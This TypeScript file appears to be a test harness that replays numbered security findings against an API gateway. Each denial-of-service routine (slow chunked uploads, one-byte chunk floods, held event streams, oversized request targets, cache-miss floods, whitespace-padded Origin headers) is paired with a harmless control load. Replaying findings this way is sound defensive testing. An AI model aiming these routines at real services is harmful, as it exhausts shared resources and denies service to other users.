import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Agent, request } from 'undici';

/** Where an attacker is, and the one token it has. */
export interface Target {
  /** Origin of the gateway's external port. */
  readonly external: string;
  readonly token: string;
  readonly signal: AbortSignal;
}

type Run = (target: Target) => Promise<unknown>;

export interface Attack {
  /** Its number in the list of findings. */
  readonly finding: string;
  readonly attack: Run;
  /** The same rate of requests, or bytes, that do no harm. */
  readonly harmless: Run;
  readonly replicas?: number;
  readonly store?: 'redis';
  readonly env?: Readonly<Record<string, string>>;
}

const TINY_CHUNK = '1\r\nx\r\n';
const TINY_CHUNKS_PER_TURN = 2_000;
const TURN_MS = 15;

interface Sent {
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

/** A request whose response is read whole, whatever it is. */
async function send({ external, token }: Target, agent: Agent, path: string, sent: Sent = {}): Promise<void> {
  const { method = 'GET', headers, body } = sent;
  try {
    const authorization = { Authorization: `Bearer ${token}` };
    const response = await request(`${external}/shop${path}`, {
      dispatcher: agent,
      method: method as 'GET',
      headers: { ...authorization, ...headers },
      body,
    });
    await response.body.dump();
  } catch {
    // Whatever an attacker meets is its own affair.
  }
}

/** Sends `perSecond` requests, whether earlier ones are answered or not, until the signal ends it. */
function paced(perSecond: number, pathOf: (n: number) => string, sent?: (n: number) => Sent): Run {
  return async (target) => {
    const agent = new Agent({ connections: 64, headersTimeout: 0, bodyTimeout: 0 });
    const startedAtMs = performance.now();
    for (let n = 0; !target.signal.aborted; ) {
      const due = ((performance.now() - startedAtMs) / 1000) * perSecond;
      for (; n < due; n += 1) void send(target, agent, pathOf(n), sent?.(n));
      await sleep(5);
    }
    await agent.destroy();
  };
}

/** So many requests at a time, each begun anew when it is over. */
function holding(count: number, open: (target: Target) => Promise<void>): Run {
  return async (target) => {
    const again = async () => {
      while (!target.signal.aborted) {
        await open(target).catch(() => {});
        await sleep(50);
      }
    };
    await Promise.all(Array.from({ length: count }, again));
  };
}

/** A connection whose bytes are ours, closed with the attack. */
async function raw({ external, signal }: Target): Promise<Socket> {
  const { hostname, port } = new URL(external);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  const end = () => socket.destroy();
  signal.addEventListener('abort', end, { once: true });
  socket.once('close', () => signal.removeEventListener('abort', end));
  await once(socket, 'connect');
  return socket;
}

function head(line: string, token: string, ...fields: readonly string[]): string {
  return `${[`${line} HTTP/1.1`, 'Host: attack.test', `Authorization: Bearer ${token}`, ...fields].join('\r\n')}\r\n\r\n`;
}

async function slowUpload(target: Target): Promise<void> {
  const socket = await raw(target);
  socket.resume();
  socket.write('POST /shop/auth/login HTTP/1.1\r\nHost: attack.test\r\nTransfer-Encoding: chunked\r\n\r\n');
  while (!socket.destroyed) {
    socket.write(`50\r\n${'x'.repeat(80)}\r\n`);
    await sleep(50);
  }
}

async function eventStream(target: Target): Promise<void> {
  const socket = await raw(target);
  socket.resume();
  socket.write(head('GET /shop/events', target.token));
  await once(socket, 'close');
}

async function tinyChunks(target: Target): Promise<void> {
  const socket = await raw(target);
  socket.resume();
  socket.write(head('POST /shop/echo', target.token, 'Transfer-Encoding: chunked'));
  while (!socket.destroyed) {
    if (!socket.write(TINY_CHUNK.repeat(TINY_CHUNKS_PER_TURN)))
      await Promise.race([once(socket, 'drain'), once(socket, 'close')]);
    await sleep(TURN_MS);
  }
}

async function largeChunks(target: Target): Promise<void> {
  const socket = await raw(target);
  socket.resume();
  socket.write(head('POST /shop/echo', target.token, 'Transfer-Encoding: chunked'));
  const bytes = TINY_CHUNK.length * TINY_CHUNKS_PER_TURN;
  while (!socket.destroyed) {
    socket.write(`${bytes.toString(16)}\r\n${'x'.repeat(bytes)}\r\n`);
    await sleep(TURN_MS);
  }
}

async function refusedUpgrade(target: Target): Promise<void> {
  const socket = await raw(target);
  socket.resume();
  const key = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==';
  socket.write(
    head(
      'GET /shop/fails',
      target.token,
      'Connection: Upgrade',
      'Upgrade: websocket',
      key,
      'Sec-WebSocket-Version: 13',
    ),
  );
  await sleep(30);
  socket.destroy();
}

const ordinary = (perSecond: number) => paced(perSecond, (n) => `/ok?n=${n}`);
const EIGHT_KIB = 'x'.repeat(8_000);
const BLANKS = `https://a.test${' '.repeat(7_500)}${'\t'.repeat(7_500)}b`;

/** Everything that one token can do to the others. */
export const attacks: Readonly<Record<string, Attack>> = {
  'an endpoint that fails': { finding: '1', attack: paced(100, () => '/fails'), harmless: ordinary(100) },
  'an endpoint that fails, three replicas': {
    finding: '1',
    replicas: 3,
    attack: paced(100, () => '/fails'),
    harmless: ordinary(100),
  },
  'responses that break off': { finding: '1', attack: paced(50, () => '/tears'), harmless: ordinary(50) },
  'connections that are reset': { finding: '1', attack: paced(50, () => '/resets'), harmless: ordinary(50) },
  'a method nobody knows': {
    finding: '1',
    attack: paced(
      50,
      () => '/unknown',
      () => ({ method: 'PROPFIND' }),
    ),
    harmless: ordinary(50),
  },
  'upgrades that are refused': { finding: '1', attack: holding(2, refusedUpgrade), harmless: ordinary(25) },
  'heads that are too large': {
    finding: '1',
    attack: paced(50, () => '/large-head'),
    harmless: ordinary(50),
  },
  'uploads that are cut': {
    finding: '1',
    attack: paced(
      20,
      () => '/cuts',
      () => ({ method: 'POST', body: 'x'.repeat(300_000) }),
    ),
    harmless: paced(
      20,
      () => '/echo',
      () => ({ method: 'POST', body: 'x'.repeat(300_000) }),
    ),
  },
  'slow requests on two replicas': {
    finding: '2',
    replicas: 2,
    attack: paced(2, () => '/slow?ms=2400'),
    harmless: ordinary(2),
  },
  'targets of 8 KiB': {
    finding: '4',
    attack: paced(200, (n) => `/ok?${EIGHT_KIB}${n}`),
    harmless: ordinary(200),
  },
  'misses that are not stored': {
    finding: '5',
    store: 'redis',
    env: { CACHE_MAX_BYTES: '1MiB' },
    attack: paced(200, (n) => `/missing?n=${n}`),
    harmless: ordinary(200),
  },
  'slow uploads to the login': { finding: '6', attack: holding(10, slowUpload), harmless: ordinary(10) },
  'event streams': { finding: '6', attack: holding(12, eventStream), harmless: ordinary(12) },
  'ten slow requests': {
    finding: '-',
    attack: holding(10, async (target) => {
      const agent = new Agent();
      await send(target, agent, '/slow?ms=60000');
      await agent.destroy();
    }),
    harmless: ordinary(10),
  },
  'blanks in a field that Vary names': {
    finding: '7',
    attack: paced(
      20,
      () => '/varies',
      () => ({ headers: { Origin: BLANKS } }),
    ),
    harmless: paced(
      20,
      () => '/varies',
      () => ({ headers: { Origin: 'https://a.test' } }),
    ),
  },
  'chunks of one byte': { finding: '7', attack: holding(1, tinyChunks), harmless: holding(1, largeChunks) },
  'connections that die while kept': {
    finding: '8',
    replicas: 2,
    attack: paced(50, () => '/resets'),
    harmless: ordinary(50),
  },
};
